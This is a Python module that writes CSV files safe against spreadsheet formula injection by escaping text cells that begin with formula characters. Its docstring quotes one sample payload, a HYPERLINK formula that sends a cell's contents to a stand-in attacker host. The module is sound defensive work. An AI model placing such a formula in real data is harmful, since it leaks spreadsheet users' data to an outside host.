"""CSV that a spreadsheet opens as data: the one writer every CSV export uses.

Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@` (and, in
some, a tab or carriage return before one) as a formula, so a learner named
`=HYPERLINK("https://evil.example/?"&A2, "Open")` would run one on the trainer's computer.
Such text gets a leading apostrophe (OWASP's advice: the spreadsheet shows the text and drops
the apostrophe from view). Numbers are written as they are: only text can be a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, value: str, /) -> Any: ...


def spreadsheet_text(value: Any) -> Any:
    """`value`, with an apostrophe before text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose rows go through spreadsheet_text; `writerow` returns what the file's
    `write` returned (a streaming response's echo writer relies on it)."""

    def __init__(self, fileobj: _Writable) -> None:
        self._writer = csv.writer(fileobj)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_text(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fileobj: _Writable) -> SafeWriter:
    return SafeWriter(fileobj)
